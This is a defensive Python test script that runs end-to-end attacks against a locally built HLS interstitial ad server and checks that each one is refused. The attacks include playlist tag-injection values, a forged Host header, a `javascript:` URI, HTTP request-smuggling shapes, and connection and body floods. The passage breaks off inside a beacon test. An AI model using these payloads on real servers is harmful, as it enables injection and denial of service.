"""End-to-end attacks on the real `hlsi serve`, as an outsider and a careless operator would try them.

Each reproduction of the security issue runs against the built binary on loopback: the server must
answer with a clear 4xx/5xx (or refuse to start) and keep serving, never crash, hang, poison what it
serves or grow without bound. The timeouts here only stop a hung test; no outcome is decided by time.

1. Breaks whose times overflow are refused; the timeline still renders after a restart.
2. Attribute values that would break the line grammar (tag injection) are refused.
3. A forged Host header never reaches a served URL, before or after a restart.
4. Oversized bodies (hand-off, admin) get 413; an attribute-heavy hand-off does not hold other requests.
5. Long request lines get 414, large headers 431, bad bytes 400; idle and slow-header sockets are closed.
6. Viewer IDs over the limit get 400.
7. Upstream bodies that are not playlists get 502; a stalled upstream gets 504 within its deadline; a
   second server on the same database refuses to start.
9. (Issue 37, item 2) Requests NIO's decoder refuses get 400 and a close, a body that never comes 408;
   connections over the per-peer and total caps are closed at once, and 600 sockets against a
   512-descriptor limit neither crash the server nor stop it answering.
10-13. (Items 1, 9, 12-15) An upstream live playlist whose PROGRAM-DATE-TIME steps back is served; a hostile
   SCTE-35 upstream whose 500 markers change on every fetch is fetched and recognized once per second for
   any number of viewers, and other channels keep serving; one whose 200 undecodable markers change on
   every fetch costs bounded logging (each refused marker counted once, R29); `?shift=` of a segment larger than the
   kept-file limit is refused without being read; HEAD of an asset list changes nothing (a ONCE pre-roll
   still plays); concurrent break-now calls make one break; breaks per target are capped; a `javascript:`
   ad URI is refused; the Bearer scheme is case-insensitive.
14. (Items 7 and 8) Relay URLs are no offline oracle for the admin token, expire, and one client's
   self-minted beacons stop at its address's budget (429) while the server's own impressions all go
   out; a weak admin token is warned about at start.
15. (Item 6) A "creative.mp4" that is really an HLS playlist of a local file is refused by the creative
   conditioning and nothing is published under /creatives/ (needs ffmpeg).
16. (Items 4 and 5) VAST wrappers and redirects pointing at the server's own admin API, another loopback
   port or a decimal-IP form of 127.0.0.1 are refused (only the ad server's own host:port is allowed); a
   wrapper tree that fans out makes at most the decision's request budget of requests.
17. (Item 3) A hostile VAST ad server answers a 1 MB document with 149,000 attributes on one
   element: the reader refuses it at its 65th attribute, the asset lists are answered and a playlist
   requested meanwhile is served.
18. (Issue 32, item 3) A herd of asset-list requests against a failing ad server opens its breaker:
   the ad server hears a few requests, not the herd, and every viewer gets the fallback (the
   inventory); against a slow one, limited to 2 requests at a time, the queue is shed at the viewers'
   deadline and every viewer still gets the fallback.
19. (Issue 32, item 2) A flood of new viewer session IDs on a live playlist keeps at most
   `prefetchSessions` sessions within `prefetchSessionBytes`; over-long and non-ASCII IDs are ignored.
20. (Issue 36, items 1 and 3) The operations console's files: paths out of its folder, hidden names,
   other types and encoded tricks get 404, every answer carries its content policy; the admin API's
   description and the console's admin routes refuse a missing or wrong token and answer no other
   origin; `served` refuses a `limit` or a target it cannot take with 400 at once.
21. (Issue 35, item 4) Date Range Schedules: a flood of made-up schedule IDs on a target that
   publishes schedules gets 404 (malformed ones 400) and stores nothing, the real document is still
   served; an upstream whose schedule documents are too large, too deep, too many entries or not
   JSON, flattened into plain tags, adds no date ranges and its playlists are still served.
22. (Issue 42, items 5-7) 64 connections with `?r=<random>` on a stalling upstream playlist share one
   fetch (the query is not forwarded) and a viewer is still served; an upstream's `.html`, `.svg` and
   `.js` are not proxied, and a segment the upstream labels `text/html` goes out as `video/iso.segment`
   with `nosniff` and `Content-Security-Policy: sandbox`; 120 schedule tags (120,000 date ranges), or
   16 tags of 1,000 entries, get 502 at once, three renders at a time, without growing the server.
23-26. (Issue 42, items 1-4) Nobody takes a live break's ads from the others: asset lists of cadence breaks
   far ahead (and aliases of a break's ID) are 404 and keep nothing, so the next break's viewers all
   get the ad server's ads; a burst of new session IDs leaves no CPU busy after it; a 9 KB user agent
   against an ad server that answers 400 to large headers neither reaches it whole nor opens its
   breaker; a bot's user agent and address asking a shared tag's break early decide nothing for the
   others and appear in no one's tracking URLs.
"""

import argparse
import base64
import hashlib
import hmac
import http.client
import http.server
import json
import os
import resource
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request

from support import check, failures, free_port

TOKEN = "attack-token"
ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
DEMO = os.path.join(ROOT, "Sources/InterstitialServer/Resources/demo")


class Server:
    """A running `hlsi serve` with a configuration file."""

    def __init__(self, hlsi, config, workdir, name="server", descriptors=None):
        self.port = config["port"]
        self.base = f"http://127.0.0.1:{self.port}"
        self.path = os.path.join(workdir, f"{name}.json")
        with open(self.path, "w") as out:
            json.dump(config, out)
        self.log = open(os.path.join(workdir, f"{name}.log"), "w")
        limit = None
        if descriptors:
            def limit():
                resource.setrlimit(resource.RLIMIT_NOFILE, (descriptors, descriptors))
        self.process = subprocess.Popen([hlsi, "serve", "--config", self.path], stdout=self.log,
                                        stderr=subprocess.STDOUT, preexec_fn=limit)
        deadline = time.time() + 60
        while time.time() < deadline:
            if self.process.poll() is not None:
                raise RuntimeError(f"the server exited with {self.process.returncode}: {self.read_log()}")
            try:
                with socket.create_connection(("127.0.0.1", self.port), timeout=1):
                    return
            except OSError:
                time.sleep(0.1)
        raise RuntimeError("the server did not start")

    def read_log(self):
        self.log.flush()
        with open(self.log.name) as log:
            return log.read()

    def alive(self):
        return self.process.poll() is None

    def stop(self):
        if self.process.poll() is None:
            self.process.terminate()
            try:
                self.process.wait(timeout=20)
            except subprocess.TimeoutExpired:
                self.process.kill()
        self.log.close()


def request(base, method, path, body=None, headers=None, timeout=30):
    """One HTTP request; returns (status, headers, body bytes)."""
    host, port = base.removeprefix("http://").split(":")
    connection = http.client.HTTPConnection(host, int(port), timeout=timeout)
    try:
        all_headers = dict(headers or {})
        if body is not None and not isinstance(body, bytes):
            body = json.dumps(body).encode()
            all_headers.setdefault("Content-Type", "application/json")
        connection.request(method, path, body=body, headers=all_headers)
        response = connection.getresponse()
        return response.status, dict(response.getheaders()), response.read()
    except (OSError, http.client.HTTPException) as error:
        # A connection the server closed (or a server that died) is a status of 0.
        return 0, {}, str(error).encode()
    finally:
        connection.close()


def admin(base, method, path, body=None):
    return request(base, method, "/admin/v1" + path, body, {"Authorization": f"Bearer {TOKEN}"})


def raw(port, data, timeout=10):
    """Sends raw bytes; returns what came back before the server closed (or the timeout)."""
    received = b""
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
            try:
                s.sendall(data)
            except OSError:
                pass  # the server may answer and close before it has read everything
            while True:
                chunk = s.recv(65536)
                if not chunk:
                    break
                received += chunk
    except OSError:
        pass
    return received


def closed_within(port, send, seconds):
    """Whether the server closes a connection that sent `send` (then nothing) within `seconds`."""
    try:
        with socket.create_connection(("127.0.0.1", port)) as s:
            s.sendall(send)
            s.settimeout(seconds)
            try:
                while s.recv(65536):
                    pass
                return True
            except (socket.timeout, TimeoutError):
                return False
            except ConnectionResetError:
                return True
    except ConnectionRefusedError:
        return False


class QuietHandler(http.server.BaseHTTPRequestHandler):
    """A request handler of the scripts' own servers: logs nothing, answers whole bodies."""

    def log_message(self, *args):
        pass

    def answer(self, body, content_type, status=200):
        """A `status` answer with `body`; a client that stopped reading (the server past a cap) is fine."""
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        try:
            self.wfile.write(body)
        except (BrokenPipeError, ConnectionResetError):
            pass


class Upstream(http.server.ThreadingHTTPServer):
    """A hostile upstream origin: junk bodies, huge bodies, headers then silence."""

    daemon_threads = True

    class Handler(QuietHandler):
        def do_GET(self):
            path = self.path.split("?")[0]
            if path.endswith("/junk.m3u8"):
                self.answer(os.urandom(4096), "application/vnd.apple.mpegurl")
            elif path.endswith("/fake.m3u8"):
                self.answer(b"#EXTM3U\n" + os.urandom(4096), "application/vnd.apple.mpegurl")
            elif path.endswith("/huge.m3u8"):
                line = b"#EXTINF:6,\nseg.ts\n"
                self.answer(b"#EXTM3U\n#EXT-X-TARGETDURATION:6\n" + line * (8 * 1024 * 1024 // len(line)),
                            "application/vnd.apple.mpegurl")
            elif path.endswith("/stall.m3u8"):
                self.send_response(200)
                self.send_header("Content-Type", "application/vnd.apple.mpegurl")
                self.send_header("Content-Length", "100000")
                self.end_headers()
                self.wfile.write(b"#EXTM3U\n")
                self.wfile.flush()
                time.sleep(30)
            else:
                self.send_error(404)


def base_config(port, database, limits=None):
    config = {
        "port": port, "adminToken": TOKEN, "database": database,
        "vod": [{"id": "demo", "path": "/demo/vod", "directory": os.path.join(DEMO, "primary")}],
        "live": [{"id": "demo", "path": "/demo/live", "loop": os.path.join(DEMO, "primary"), "windowSegments": 6}],
        "ads": os.path.join(DEMO, "ads"),
        "seed": {"inventory": [{"id": "ad1", "uri": "/ads/ad1/master.m3u8", "duration": 6}],
                 "schedules": [{"target": "live/demo", "cadence": {"every": 60, "duration": 10, "offset": 30}}]},
    }
    if limits:
        config["limits"] = limits
    return config


LIMITS = {"idleTimeout": 2, "headerTimeout": 2, "requestLineBytes": 8192, "headerBytes": 16384,
          "upstreamTimeout": 2, "upstreamTransferTimeout": 4, "viewerIDBytes": 128}


def attacks(hlsi, workdir):
    database = os.path.join(workdir, "state.sqlite")
    port = free_port()
    server = Server(hlsi, base_config(port, database, LIMITS), workdir)
    base = server.base
    try:
        print("1. times that overflow", flush=True)
        for at in (10, 20):
            status, _, body = admin(base, "POST", "/breaks",
                                    {"id": f"long{at}", "target": "vod/demo", "at": at, "duration": 8999999999})
            check(status == 400, f"a break of 8999999999 s at {at} is refused (got {status} {body[:120]!r})")
        status, _, body = admin(base, "POST", "/breaks", {"id": "far", "target": "vod/demo", "at": 8999999999})
        check(status == 400, f"a break at 8999999999 s is refused (got {status})")
        # The largest durations the bound lets in still resolve: times saturate, nothing traps.
        for at in (10, 20):
            status, _, body = admin(base, "POST", "/breaks",
                                    {"id": f"max{at}", "target": "vod/demo", "at": at, "duration": 315360000})
            check(status == 201, f"a break of 315360000 s (the bound) at {at} is accepted (got {status})")
        status, _, _ = request(base, "GET", "/demo/vod/timeline.json")
        check(status == 200 and server.alive(), "timeline.json renders and the server lives")
        status, _, _ = request(base, "GET", "/demo/vod/video/main.m3u8")
        check(status == 200, "the VOD playlist with them is served")
        for at in (10, 20):
            admin(base, "DELETE", f"/breaks/max{at}")

        print("2. tag injection", flush=True)
        evil = {"X-EVIL": "a\"\n#EXTINF:2,\nhttp://evil.invalid/seg.m4s\n#X:\"b"}
        status, _, body = admin(base, "POST", "/breaks",
                                {"id": "inject", "target": "vod/demo", "at": 5, "duration": 4, "attributes": evil})
        check(status == 400, f"an attribute with a quote and line breaks is refused (got {status})")
        status, _, body = admin(base, "POST", "/breaks", {
            "id": "inject2", "target": "vod/demo", "at": 5, "duration": 4,
            "attributes": {"X-EVIL": "a\",DURATION=999,X-Z=\"b"}})
        check(status == 400, f"an attribute that closes its quote is refused (got {status})")
        status, _, body = admin(base, "PUT", "/schedules/live/demo", {
            "cadence": {"every": 60, "duration": 10}, "prefix": "b\n#EXT-X-ENDLIST\n"})
        check(status == 400, f"a schedule prefix with a line break is refused (got {status})")
        status, _, playlist = request(base, "GET", "/demo/vod/video/main.m3u8")
        check(status == 200 and b"evil.invalid" not in playlist and b"DURATION=999" not in playlist,
              "the served VOD playlist has no injected line")
        status, _, playlist = request(base, "GET", "/demo/live/video/main.m3u8")
        check(status == 200 and playlist.count(b"#EXT-X-ENDLIST") == 0, "the live playlist has no ENDLIST")

        print("3. Host header", flush=True)
        for path in ("/demo/vod/video/main.m3u8", "/demo/live/video/main.m3u8"):
            status, _, forged = request(base, "GET", path, headers={"Host": "evil.example"})
            check(status in (200, 400) and b"evil.example" not in forged, f"a forged Host is not served ({path})")
        status, _, body = request(base, "GET", "/demo/vod/asset-list.json?_HLS_interstitial_id=midroll-2",
                                  headers={"Host": "evil.example"})
        check(b"evil.example" not in body, "a forged Host is not in an asset list")

        print("4. bodies", flush=True)
        big = {"version": 1, "url": "http://x/a.m3u8", "pad": "x" * (128 * 1024)}
        status, _, _ = request(base, "POST", "/handoff/tv", big)
        check(status == 413, f"a 128 KiB hand-off session gets 413 (got {status})")
        status, _, _ = admin(base, "POST", "/breaks", {"id": "pad", "pad": "x" * (128 * 1024)})
        check(status == 413, f"a 128 KiB admin body gets 413 (got {status})")
        attributes = ",".join(f"X-A{i}=1" for i in range(6000))
        tag = "#EXT-X-DATERANGE:ID=\"e\",CLASS=\"com.apple.hls.interstitial\",START-DATE=\"2020-01-01T00:00:00Z\","
        session = {"version": 1, "url": "http://127.0.0.1/a.m3u8", "events": [{"tag": tag + attributes}]}
        done = []
        thread = threading.Thread(target=lambda: done.append(request(base, "POST", "/handoff/heavy", session)[0]))
        thread.start()
        status, _, _ = request(base, "GET", "/demo/live/video/main.m3u8", timeout=20)
        thread.join(60)
        check(status == 200 and done and done[0] in (202, 400, 413),
              f"an attribute-heavy hand-off is answered ({done}) and a live GET is served meanwhile")

        print("5. request lines and headers", flush=True)
        reply = raw(port, b"GET /" + b"a" * 100_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n")
        check(reply.startswith(b"HTTP/1.1 414"), f"a 100 KB request line gets 414 (got {reply[:40]!r})")
        reply = raw(port, b"GET / HTTP/1.1\r\nHost: x\r\nX-Big: " + b"b" * 100_000 + b"\r\n\r\n")
        check(reply.startswith(b"HTTP/1.1 431"), f"a 100 KB header gets 431 (got {reply[:40]!r})")
        reply = raw(port, b"G\x01T /\x7f HTTP/1.1\r\nHost: x\r\n\r\n")
        check(reply.startswith(b"HTTP/1.1 400"), f"bad bytes in the request line get 400 (got {reply[:40]!r})")
        check(closed_within(port, b"", 15), "an idle connection is closed")
        check(closed_within(port, b"GET / HTTP/1.1\r\nHost: x\r\n", 15), "a slow-header connection is closed")

        print("6. viewer IDs", flush=True)
        status, _, _ = request(
            base, "GET", "/demo/vod/asset-list.json?_HLS_interstitial_id=midroll-2&_HLS_primary_id=" + "v" * 4000)
        check(status == 400, f"a 4000-byte _HLS_primary_id gets 400 (got {status})")

        print("7. restart and a second server on the same database", flush=True)
        second_port = free_port()
        config = base_config(second_port, database, LIMITS)
        try:
            second = subprocess.run([hlsi, "serve", "--config", write(workdir, "second.json", config)],
                                    capture_output=True, text=True, timeout=30)
            check(second.returncode == 2 and "database" in second.stderr,
                  f"a second server on the same database refuses to start ({second.returncode}: "
                  f"{second.stderr.strip()})")
        except subprocess.TimeoutExpired:
            check(False, "a second server on the same database refuses to start (it ran)")
        check(server.alive(), "the first server still serves")
    finally:
        server.stop()
    server = Server(hlsi, base_config(port, database, LIMITS), workdir, "restarted")
    try:
        status, _, _ = request(server.base, "GET", "/demo/vod/timeline.json")
        check(status == 200 and server.alive(), "after a restart the timeline renders")
        _, _, playlist = request(server.base, "GET", "/demo/vod/video/main.m3u8")
        check(b"evil.example" not in playlist and b"evil.invalid" not in playlist, "after a restart nothing forged")
    finally:
        server.stop()


def write(workdir, name, config):
    path = os.path.join(workdir, name)
    with open(path, "w") as out:
        json.dump(config, out)
    return path


def upstream_attacks(hlsi, workdir):
    print("8. upstream origins", flush=True)
    upstream = Upstream(("127.0.0.1", 0), Upstream.Handler)
    threading.Thread(target=upstream.serve_forever, daemon=True).start()
    origin = f"http://127.0.0.1:{upstream.server_address[1]}"
    port = free_port()
    config = base_config(port, os.path.join(workdir, "upstream.sqlite"), LIMITS)
    config["allowedOrigins"] = [origin]
    config["vod"] = [{"id": name, "upstream": f"{origin}/{name}/{name}.m3u8"} for name in
                     ("junk", "fake", "huge", "stall")]
    server = Server(hlsi, config, workdir, "upstream")
    try:
        for name in ("junk", "fake", "huge"):
            status, _, body = request(server.base, "GET", f"/vod/{name}/{name}.m3u8")
            check(status == 502, f"an upstream {name} body gets 502 (got {status} {body[:100]!r})")
        started = time.time()
        status, _, _ = request(server.base, "GET", "/vod/stall/stall.m3u8", timeout=60)
        check(status == 504, f"an upstream that stalls after its headers gets 504 (got {status})")
        print(f"       (answered after {time.time() - started:.1f} s; the configured deadline is 2 s)")
        check(server.alive(), "the server still serves")
    finally:
        server.stop()
        upstream.shutdown()


# Issue 37, item 2: connections never answered and never closed, then a crash at the descriptor limit.
GUARD_SHAPES = {
    "lower-case method": b"get / HTTP/1.1\r\nHost: x\r\n\r\n",
    "unknown method": b"FOO / HTTP/1.1\r\nHost: x\r\n\r\n",
    "bare-LF head": b"GET / HTTP/1.1\nHost: x\n\n",
    "duplicate Content-Length": b"POST /handoff/a HTTP/1.1\r\nContent-Length: 2\r\nContent-Length: 2\r\n\r\nab",
    "listed Content-Length": b"POST /handoff/a HTTP/1.1\r\nContent-Length: 2, 2\r\n\r\nab",
    "Transfer-Encoding: chunked,": b"POST /handoff/a HTTP/1.1\r\nTransfer-Encoding: chunked,\r\n\r\n0\r\n\r\n",
    "bare-LF chunk size": b"POST /handoff/a HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n2\nab\r\n0\r\n\r\n",
}


def hold(port, count, source="127.0.0.1"):
    """Opens `count` connections from `source` that send nothing; returns the sockets."""
    sockets = []
    for _ in range(count):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(5)
        s.bind((source, 0))
        try:
            s.connect(("127.0.0.1", port))
        except OSError:
            s.close()
            continue
        sockets.append(s)
    return sockets


def refused_at_once(s):
    """Whether the server answered 503 and closed `s` (within 5 s)."""
    received = b""
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            received += chunk
    except OSError:
        pass
    return received.startswith(b"HTTP/1.1 503 ") and b"too-many-connections" in received


def answered_from(port, source):
    """Whether a plain request from `source` gets a 2xx."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.settimeout(10)
        s.bind((source, 0))
        s.connect(("127.0.0.1", port))
        s.sendall(b"GET /favicon.ico HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        received = b""
        try:
            while True:
                chunk = s.recv(65536)
                if not chunk:
                    break
                received += chunk
        except OSError:
            pass
        return received.startswith(b"HTTP/1.1 2")


def guard_attacks(hlsi, workdir):
    print("9. the request guard: refused shapes, body timeout, connection caps, the descriptor limit", flush=True)
    port = free_port()
    limits = dict(LIMITS, bodyTimeout=2, maxConnectionsPerPeer=16)
    server = Server(hlsi, base_config(port, os.path.join(workdir, "guard.sqlite"), limits), workdir, "guard",
                    descriptors=512)
    try:
        for name, data in GUARD_SHAPES.items():
            started = time.time()
            answer = raw(port, data, timeout=10)
            check(answer.startswith(b"HTTP/1.1 400 ") and b"Connection: close" in answer
                  and time.time() - started < 5, f"{name}: 400 and closed at once ({answer[:60]!r})")
        started = time.time()
        answer = raw(port, b"POST /handoff/a HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\nab", timeout=10)
        check(answer.startswith(b"HTTP/1.1 408 ") and b"body-timeout" in answer and time.time() - started < 6,
              f"a body that never comes: 408 after the body timeout ({answer[:60]!r})")
        # Over the per-peer cap: the extra connections are answered 503 and closed; others are served.
        held = hold(port, 40)
        try:
            # Connections are admitted on two event loops, not always in the order they were made:
            # count the refused ones (the admitted stay open until the idle timeout closes them).
            refused = sum(refused_at_once(s) for s in held)
            check(len(held) == 40 and refused == 24,
                  f"connections over the per-peer cap get 503 and are closed at once ({refused} of {len(held)})")
            check(answered_from(port, "127.0.0.2"), "another address is still answered")
        finally:
            for s in held:
                s.close()
        # 600 sockets from 40 addresses against 512 descriptors: the total cap (224) holds, no crash.
        held = []
        try:
            for index in range(40):
                held += hold(port, 15, f"127.0.1.{index + 1}")
            time.sleep(0.5)
            check(server.alive(), f"{len(held)} sockets at a 512-descriptor limit: the server is alive")
            answer = raw(port, b"GET /favicon.ico HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", timeout=10)
            check(answer.startswith((b"HTTP/1.1 2", b"HTTP/1.1 503 ")), f"at the cap: answered ({answer[:40]!r})")
        finally:
            for s in held:
                s.close()
        deadline = time.time() + 10
        while time.time() < deadline and not answered_from(port, "127.0.0.1"):
            time.sleep(0.2)
        check(server.alive() and answered_from(port, "127.0.0.1"), "once they close, requests are answered again")
    finally:
        server.stop()


class HostileUpstream(http.server.ThreadingHTTPServer):
    """An upstream live origin that steps its dates back, or rewrites 500 SCTE-35 breaks on every fetch."""

    daemon_threads = True
    fetches = 0
    bad_fetches = 0

    class Handler(QuietHandler):
        def do_GET(self):
            path = self.path.split("?")[0]
            now = time.time()
            stamp = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(now))
            if path.endswith("/step/live.m3u8"):
                earlier = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(now - 1))
                body = ("#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:2\n#EXT-X-MEDIA-SEQUENCE:7\n"
                        f"#EXT-X-PROGRAM-DATE-TIME:{stamp}.000Z\n#EXTINF:2.0,\na.ts\n"
                        f"#EXT-X-PROGRAM-DATE-TIME:{earlier}.500Z\n#EXTINF:0.1,\nb.ts\n")
            elif path.endswith("/signals/live.m3u8"):
                self.server.fetches += 1
                # A new millisecond offset on every fetch: every break gets a new date, so a new ID.
                offset = self.server.fetches % 1000
                start = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(now - 1000))
                lines = ["#EXTM3U", "#EXT-X-VERSION:3", "#EXT-X-TARGETDURATION:1", "#EXT-X-MEDIA-SEQUENCE:1",
                         f"#EXT-X-PROGRAM-DATE-TIME:{start}.{offset:03d}Z"]
                for index in range(500):
                    lines += ["#EXT-X-CUE-OUT:1", "#EXTINF:1.0,", f"o{index}.ts", "#EXT-X-CUE-IN", "#EXTINF:1.0,",
                              f"i{index}.ts"]
                body = "\n".join(lines) + "\n"
            elif path.endswith("/badsignals/live.m3u8"):
                # 200 markers whose section never decodes, new ones on every fetch (R29: each refused
                # marker is counted once; logging is bounded per playlist).
                self.server.bad_fetches += 1
                fetch = self.server.bad_fetches
                start = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(now - 200))
                lines = ["#EXTM3U", "#EXT-X-VERSION:3", "#EXT-X-TARGETDURATION:1", "#EXT-X-MEDIA-SEQUENCE:1",
                         f"#EXT-X-PROGRAM-DATE-TIME:{start}.000Z"]
                for index in range(200):
                    lines += [f"#EXT-OATCLS-SCTE35:bad{fetch}x{index}", "#EXTINF:1.0,", f"s{index}.ts"]
                body = "\n".join(lines) + "\n"
            else:
                self.send_error(404)
                return
            self.answer(body.encode(), "application/vnd.apple.mpegurl")


def wave3_attacks(hlsi, workdir):
    print("10. upstream dates that step back; a hostile SCTE-35 upstream", flush=True)
    upstream = HostileUpstream(("127.0.0.1", 0), HostileUpstream.Handler)
    threading.Thread(target=upstream.serve_forever, daemon=True).start()
    origin = f"http://127.0.0.1:{upstream.server_address[1]}"
    # A loop channel whose folder holds a segment larger than the kept-file limit (8 MiB).
    loop = os.path.join(workdir, "loop")
    shutil.copytree(os.path.join(DEMO, "primary"), loop)
    with open(os.path.join(loop, "video", "big.m4s"), "wb") as out:
        out.truncate(60 * 1024 * 1024)
    port = free_port()
    config = base_config(port, os.path.join(workdir, "wave3.sqlite"), dict(LIMITS, breaksPerTarget=5))
    config["allowedOrigins"] = [origin]
    config["live"] = [
        {"id": "demo", "path": "/demo/live", "loop": loop, "windowSegments": 6},
        {"id": "step", "upstream": f"{origin}/step/live.m3u8"},
        {"id": "signals", "upstream": f"{origin}/signals/live.m3u8", "signals": "scte35"},
        {"id": "badsignals", "upstream": f"{origin}/badsignals/live.m3u8", "signals": "scte35"},
    ]
    server = Server(hlsi, config, workdir, "wave3")
    base = server.base
    try:
        for attempt in range(3):
            status, _, body = request(base, "GET", "/live/step/live.m3u8")
            check(status == 200 and b"b.ts" in body, f"a playlist whose dates step back is served (got {status})")
        check(server.alive(), "the server lives after dates that step back")

        results = []

        def viewer():
            for _ in range(5):
                results.append(request(base, "GET", "/live/signals/live.m3u8", timeout=60)[0])

        threads = [threading.Thread(target=viewer) for _ in range(8)]
        started = time.time()
        for thread in threads:
            thread.start()
        other = request(base, "GET", "/demo/live/video/main.m3u8", timeout=60)[0]
        for thread in threads:
            thread.join(120)
        elapsed = time.time() - started
        check(all(status == 200 for status in results) and len(results) == 40,
              f"40 viewer requests of the hostile channel are answered: {sorted(set(results))}")
        check(other == 200, f"another channel is served meanwhile (got {other})")
        # Shared: one fetch per second at most (and one in flight), whatever the number of viewers.
        check(upstream.fetches <= int(elapsed) + 2,
              f"the hostile upstream was fetched {upstream.fetches} times for 40 requests in {elapsed:.1f} s")

        # Undecodable markers, new on every fetch: each counted once, at most 9 log lines a playlist.
        for _ in range(4):
            status = request(base, "GET", "/live/badsignals/live.m3u8", timeout=60)[0]
            check(status == 200, f"a channel of undecodable markers is served (got {status})")
            time.sleep(1.1)
        fetched = upstream.bad_fetches
        refused = float(metric(base, 'hlsi_signals_refused_total{reason="scte35-section"}') or 0)
        check(0 < refused <= 64 * fetched,
              f"refused markers counted once, at most 64 a playlist: {refused} for {fetched} fetches")
        logged = server.read_log().count("SCTE-35 marker refused")
        check(0 < logged <= 8 * fetched, f"{logged} refusal lines logged for {fetched} fetches (at most 8 each)")
        check(server.alive(), "the server lives after endless undecodable markers")

        print("11. ?shift= of a large file", flush=True)
        started = time.time()
        status, _, body = request(base, "GET", "/demo/live/video/big.m4s?shift=5")
        check(status == 400 and b"bad-shift" in body, f"?shift= of a 60 MB segment gets 400 (got {status})")

        print("12. HEAD changes nothing", flush=True)
        status, _, body = admin(base, "POST", "/breaks", {
            "id": "pre", "target": "vod/demo", "cue": ["PRE", "ONCE"], "duration": 6})
        check(status == 201, f"a ONCE pre-roll is created (got {status} {body[:120]!r})")
        path = "/demo/vod/asset-list.json?_HLS_interstitial_id=pre&_HLS_primary_id=head-viewer"
        status, headers, body = request(base, "HEAD", path)
        check(status == 200 and body == b"", f"HEAD of the asset list answers 200 without a body (got {status})")
        status, _, body = request(base, "GET", path)
        check(status == 200 and b"ad1" in body, f"the viewer's GET after HEAD still gets the pre-roll: {body[:160]!r}")
        status, _, body = request(base, "GET", path)
        check(status == 200 and b"ad1" not in body, "and ONCE holds for its second GET")

        print("13. the admin API: break now does not stack; caps; URIs; the Bearer scheme", flush=True)
        statuses = []
        threads = [threading.Thread(target=lambda: statuses.append(
            admin(base, "POST", "/channels/demo/breaks", {"duration": 30})[0])) for _ in range(20)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(60)
        check(statuses.count(201) == 1 and statuses.count(409) == 19,
              f"20 concurrent break-now calls make one break: {sorted(statuses)}")
        created = [admin(base, "POST", "/breaks", {"id": f"cap{i}", "target": "vod/demo", "at": 10 + i,
                                                   "duration": 1})[0] for i in range(6)]
        check(created.count(201) == 4 and created[-1] == 409,
              f"breaksPerTarget 5 caps the VOD's breaks (with the pre-roll): {created}")
        status, _, body = admin(base, "POST", "/inventory", {"id": "evil", "uri": "javascript:alert(1)", "duration": 5})
        check(status == 400, f"a javascript: ad URI is refused (got {status})")
        status, _, _ = request(base, "GET", "/admin/v1/breaks", headers={"Authorization": f"bearer {TOKEN}"})
        check(status == 200, f"the Bearer scheme is case-insensitive (got {status})")
        check(server.alive(), "the server still serves")
    finally:
        server.stop()
        upstream.shutdown()


class AdServer(http.server.ThreadingHTTPServer):
    """A VAST ad server: `/vast` an HLS ad with an impression and a start beacon, `/mp4` an ad whose
    only media file is `/creative.mp4`, which is really an HLS playlist of `secret`; records the
    beacons (`/t/...`)."""

    daemon_threads = True

    def __init__(self, secret):
        super().__init__(("127.0.0.1", 0), AdServer.Handler)
        self.secret = secret
        self.beacons = []
        self.lock = threading.Lock()
        self.origin = f"http://127.0.0.1:{self.server_address[1]}"

    class Handler(QuietHandler):
        def do_GET(self):
            server = self.server
            path = self.path.split("?")[0]
            origin = server.origin
            if path in ("/vast", "/mp4"):
                media = (f'<MediaFile delivery="streaming" type="application/x-mpegURL" width="1280" height="720">'
                         f'{origin}/ads/ad1/master.m3u8</MediaFile>' if path == "/vast" else
                         f'<MediaFile delivery="progressive" type="video/mp4" width="64" height="48">'
                         f'{origin}/creative.mp4</MediaFile>')
                body = (f'<VAST version="4.2"><Ad id="a1"><InLine><AdSystem>t</AdSystem><AdTitle>a1</AdTitle>'
                        f'<Impression>{origin}/t/impression?cb=[CACHEBUSTING]</Impression>'
                        f'<Creatives><Creative id="c1"><Linear><Duration>00:00:06</Duration>'
                        f'<TrackingEvents><Tracking event="start">{origin}/t/start</Tracking></TrackingEvents>'
                        f'<MediaFiles>{media}</MediaFiles></Linear></Creative></Creatives></InLine></Ad></VAST>')
                self.answer(body.encode(), "application/xml")
            elif path == "/creative.mp4":
                playlist = f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{server.secret}\n#EXT-X-ENDLIST\n"
                self.answer(playlist.encode(), "video/mp4")
            else:
                with server.lock:
                    server.beacons.append(path)
                self.answer(b"", "text/plain")


def relay_urls(base, viewer, kind="impression"):
    """The relay URLs (paths) of `kind` in the asset list of the pre-roll asked as `viewer`."""
    status, _, body = request(base, "GET", f"/demo/vod/asset-list.json?_HLS_interstitial_id=pre&_HLS_primary_id={viewer}")
    if status != 200:
        return []
    urls = []

    def walk(value):
        if isinstance(value, dict):
            if value.get("type") == kind and isinstance(value.get("urls"), list):
                urls.extend(u[u.index("/beacon/"):] for u in value["urls"] if "/beacon/" in u)
            for item in value.values():
                walk(item)
        elif isinstance(value, list):
            for item in value:
                walk(item)

    for asset in json.loads(body).get("ASSETS", []):
        walk(asset.get("X-AD-CREATIVE-SIGNALING"))
    return urls


def beacon_attacks(hlsi, workdir):
    # Issue 37, items 7 (relay URLs as an offline oracle for the admin token) and 8 (beacon flooding).
    print("14. beacon relay: offline oracle, expiry, flooding", flush=True)
    ads = AdServer(os.path.join(workdir, "nothing.ts"))
